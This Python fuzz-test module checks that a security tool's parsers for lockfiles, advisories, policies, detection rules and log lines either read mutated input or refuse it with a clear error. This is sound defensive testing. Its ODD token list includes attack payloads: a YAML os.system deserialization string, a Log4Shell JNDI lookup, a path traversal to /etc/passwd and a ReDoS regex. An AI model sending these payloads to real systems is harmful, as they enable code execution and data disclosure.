"""Every reader of files and lines, attacked with sound documents in which something was changed.

A document is cut into tokens, and tokens are dropped, doubled, swapped, or replaced by what readers stumble over. So it
stays close to sound, and gets deeper into a reader than random bytes do. The law: it is read, or it is refused with the
error that the reader documents, and that has a text.
"""

from __future__ import annotations

import json
import random
import re
from pathlib import Path
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import ironpost
from fsm_plugins import ConfigError
from ironpost.guard.policies import load_policies
from ironpost.logs.formats import BadLine, Parser
from ironpost.logs.positions import load_positions
from ironpost.logs.rulefiles import read_rules
from ironpost.logs.rules import RuleSet
from ironpost.logs.sigma import read_sigma
from ironpost.sample.packages import ADVISORIES, LOCKFILES
from ironpost.sbom.advisories import Advisories
from ironpost.sbom.lockfiles import LockfileError, Package
from ironpost.sbom.lockfiles import parse as parse_lockfile

SHIPPED: Final = Path(ironpost.__file__).parent
TOKENS: Final = re.compile(r"\s+|\w+|[^\w\s]")
ODD: Final = [
    "",
    "\x00",
    "\ud800",
    "\N{RIGHT-TO-LEFT OVERRIDE}",
    "9" * 5_000,
    "-1",
    "1e999",
    "NaN",
    "true",
    "null",
    "2024-99-99",
    "[" * 3_000,
    '{"a":' * 3_000,
    "((((((((((((a*)*)*)*)*)*)*)*)*)*)*)*)*$",
    "&a [*a, *a]",
    "<<: *a",
    "!!python/object/apply:os.system [id]",
    '"""',
    "'",
    "\\",
    "\n",
    "\r\n",
    "\t",
    "../../etc/passwd",
    "%s%n",
    "${jndi:ldap://192.0.2.1/a}",
]

POETRY: Final = (
    '[[package]]\nname = "ember-web"\nversion = "2.3.1"\noptional = false\n\n[metadata]\nlock-version = "2.0"\n'
)
SIGMA: Final = """\
title: A login as root
id: 11111111-2222-3333-4444-555555555555
status: test
level: high
logsource:
    product: linux
    service: sshd
detection:
    selection:
        message|contains|all:
            - 'Accepted'
            - 'root'
    filter_a:
        src|cidr: 192.0.2.0/24
    filter_b:
        message|re: 'publickey for [a-z]+'
    condition: selection and not 1 of filter_*
"""
POSITIONS: Final = json.dumps(
    {
        "version": 1,
        "files": {
            "/var/log/auth.log": {
                "marks": [{"device": 1, "inode": 2, "offset": 3, "head": "ab", "tail": "cd"}],
                "known": [[1, 2], [1, 3]],
            }
        },
    },
    indent=1,
)
LINES: Final = [
    '<34>1 2026-01-02T03:04:05.678+01:00 host app 123 ID47 [a@1 b="c\\"d" e="f"][g] hello',
    "<86>Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for root from 192.0.2.7 port 22 ssh2",
    "Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for root from 192.0.2.7 port 22 ssh2",
    '{"time": "2026-01-02T03:04:05Z", "level": "warn", "message": "no", "a": {"b": [1, 2.5, null, true]}}',
]


def mutated(text: str, seed: int, changes: int) -> str:
    """Return the text with so many changes."""
    rng = random.Random(seed)
    tokens = TOKENS.findall(text)
    for _ in range(changes):
        if not tokens:
            break
        at = rng.randrange(len(tokens))
        match rng.randrange(7):
            case 0:
                del tokens[at]
            case 1:
                tokens.insert(at, tokens[at])
            case 2:
                other = rng.randrange(len(tokens))
                tokens[at], tokens[other] = tokens[other], tokens[at]
            case 3:
                tokens[at] = rng.choice(ODD)
            case 4:
                tokens.insert(at, rng.choice(ODD))
            case 5:
                del tokens[at:]
            case _:
                tokens[at:at] = tokens[at : at + rng.randrange(1, 40)]
    return "".join(tokens)


seeds = st.integers(0, 2**32)
changes = st.integers(1, 6)


@pytest.mark.parametrize(
    ("name", "text"),
    [(Path(name).name, text) for name, text in LOCKFILES.items()] + [("poetry.lock", POETRY)],
    ids=lambda value: value if value.endswith((".lock", ".txt", ".json")) else "",
)
@given(seed=seeds, count=changes)
@settings(deadline=None)
def test_a_lockfile_is_read_or_refused(name: str, text: str, seed: int, count: int) -> None:
    """And every entry of one that is read is a package, or is counted as ignored."""
    try:
        found = parse_lockfile(name, mutated(text, seed, count).encode(errors="surrogatepass"))
    except LockfileError as error:
        assert str(error)
    else:
        assert found.entries == len(found.packages) + found.ignored.total()


@given(seeds, changes)
@settings(deadline=None)
def test_an_advisory_is_used_or_refused(seed: int, count: int) -> None:
    """And asking for packages raises nothing, whatever was let in."""
    advisories = Advisories()
    for number, document in enumerate(ADVISORIES):
        text = mutated(json.dumps(document), seed + number, count)
        advisories.add(f"{number}.json", text.encode(errors="surrogatepass"))
    assert advisories.documents == len(ADVISORIES)
    for ecosystem, name, version in [
        ("PyPI", "ember-web", "2.3.1"),
        ("crates.io", "gravel", "0.4.0+build.7"),
        ("npm", "@quarry/flint", "3.1.0"),
    ]:
        advisories.find(Package(ecosystem, name, version))


@given(seeds, changes)
@settings(deadline=None)
def test_policies_are_read_or_refused(tmp_path_factory: pytest.TempPathFactory, seed: int, count: int) -> None:
    """With all problems, each of which has a text."""
    path = tmp_path_factory.mktemp("fuzz") / "policies.toml"
    text = (SHIPPED / "policies" / "default.toml").read_text(encoding="utf-8")
    path.write_bytes(mutated(text, seed, count).encode(errors="surrogatepass"))
    try:
        load_policies(path)
    except ConfigError as error:
        assert error.problems
        assert all(problem.what for problem in error.problems)


@pytest.mark.parametrize("name", ["host.yaml", "network.yaml", "ssh.yaml"])
@given(seed=seeds, count=changes)
@settings(deadline=None, max_examples=40)
def test_rules_are_read_or_refused(tmp_path_factory: pytest.TempPathFactory, name: str, seed: int, count: int) -> None:
    """And what is read can be compiled, and asked about an event."""
    path = tmp_path_factory.mktemp("fuzz") / name
    text = (SHIPPED / "rules" / name).read_text(encoding="utf-8")
    path.write_bytes(mutated(text, seed, count).encode(errors="surrogatepass"))
    try:
        rules = read_rules([path])
    except ConfigError as error:
        assert all(problem.where and problem.what for problem in error.problems)
    else:
        list(RuleSet(rules).matching({"message": "Failed password for root", "app": "sshd"}))


@given(seeds, changes)
@settings(deadline=None)
def test_a_sigma_rule_is_read_or_skipped(tmp_path_factory: pytest.TempPathFactory, seed: int, count: int) -> None:
    """With the file and the reason; the others load."""
    path = tmp_path_factory.mktemp("fuzz") / "rule.yml"
    path.write_bytes(mutated(SIGMA, seed, count).encode(errors="surrogatepass"))
    rules, skipped = read_sigma([path])
    assert all(str(each).startswith(str(path)) for each in skipped)
    list(RuleSet(rules).matching({"message": "Accepted publickey for root", "app": "sshd", "src": "192.0.2.7"}))


@given(seeds, changes)
@settings(deadline=None)
def test_positions_are_read_or_refused(tmp_path_factory: pytest.TempPathFactory, seed: int, count: int) -> None:
    """So that a broken file is told, and no log is read from a wrong place in silence."""
    path = tmp_path_factory.mktemp("fuzz") / "positions.json"
    path.write_bytes(mutated(POSITIONS, seed, count).encode(errors="surrogatepass"))
    try:
        load_positions(path)
    except ConfigError as error:
        assert "positions" in str(error)


@pytest.mark.parametrize("line", LINES, ids=["RFC 5424", "RFC 3164", "without priority", "JSON"])
@given(seed=seeds, count=changes)
@settings(deadline=None)
def test_a_line_is_understood_or_refused(line: str, seed: int, count: int) -> None:
    """And its fields can be written as UTF-8."""
    try:
        parsed = Parser(lambda: 1_767_312_000.0).parse(mutated(line, seed, count))
    except BadLine as error:
        assert str(error)
    else:
        json.dumps(dict(parsed.fields)).encode()
